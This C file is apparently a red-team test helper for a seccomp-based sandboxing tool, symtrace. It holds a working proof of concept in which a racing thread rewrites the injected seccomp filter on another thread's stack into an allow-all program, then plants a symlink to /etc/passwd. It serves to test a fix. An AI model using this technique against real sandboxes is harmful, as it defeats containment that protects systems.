/* redteam19.c - helper of redteam19.sh (issue 19, the injected prefilter).
 *
 * redteam19 swap|noswap|native DIR
 *   A process of two threads.  The main thread makes no system call after
 *   "ready": it scans the stack of the other thread (a stack of its own,
 *   mmap'd) for the struct sock_fprog symtrace writes below that thread's
 *   stack pointer to inject the prefilter (a length, then a pointer to
 *   the 16 bytes after it), and ("swap") rewrites it to point to a
 *   one-instruction ALLOW program of its own before the kernel copies
 *   it.  The other thread calls prctl(PR_GET_SECCOMP) every millisecond
 *   until it says 2 (a filter is installed), then tries
 *   symlinkat("/etc/passwd", DIR/evil) and prints
 *     swapped=0|1 symlinkat=0|ERRNO
 *   and exits.  Without a check of the installed program, symtrace takes
 *   the swapped filter for its own: the process runs unstopped and the
 *   symlink is made. */
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>
#include <fcntl.h>

#define STACK (256 * 1024)
#define SCAN (64 * 1024)

static struct sock_filter allow[1] = {
	BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
};
static volatile uintptr_t hi; /* the victim's stack, near its pointer */
static volatile int swapped, done, do_swap;
static const char *dir;

static void *victim(void *arg)
{
	volatile char marker = 0;
	struct timespec ms = { 0, 1000000 };
	char path[4096];
	int r, e;

	(void)arg;
	hi = (uintptr_t)&marker & ~(uintptr_t)15;
	printf("ready\n");
	fflush(stdout);
	while (do_swap >= 0 && prctl(PR_GET_SECCOMP, 0, 0, 0, 0) != 2)
		nanosleep(&ms, NULL);
	snprintf(path, sizeof(path), "%s/evil", dir);
	r = symlinkat("/etc/passwd", AT_FDCWD, path);
	e = errno;
	done = 1;
	printf("swapped=%d symlinkat=%s\n", swapped, r == 0 ? "0" : strerror(e));
	fflush(stdout);
	_exit(0);
	return NULL;
}

int main(int argc, char **argv)
{
	pthread_attr_t a;
	pthread_t th;
	void *stk;

	if (argc != 3) {
		fprintf(stderr, "usage: redteam19 swap|noswap|native DIR\n");
		return 2;
	}
	/* (native: no wait for a filter, the control without symtrace.) */
	do_swap = strcmp(argv[1], "native") == 0 ? -1
		  : strcmp(argv[1], "swap") == 0;
	dir = argv[2];
	stk = mmap(NULL, STACK, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (stk == MAP_FAILED)
		return 2;
	memset(stk, 0, STACK);
	pthread_attr_init(&a);
	pthread_attr_setstack(&a, stk, STACK);
	if (pthread_create(&th, &a, victim, NULL))
		return 2;
	while (!hi)
		;
	/* No system call from here on: this thread never stops. */
	while (!done) {
		uintptr_t lo = hi - SCAN, o;

		if (do_swap <= 0)
			continue;
		for (o = hi - 32; o >= lo; o -= 16) {
			volatile uint64_t *p = (volatile uint64_t *)o;

			if (p[1] == o + 16 && p[0] > 0 && p[0] < 4096) {
				p[1] = (uint64_t)(uintptr_t)allow;
				p[0] = 1;
				swapped = 1;
			}
		}
	}
	for (;;)
		pause();
}
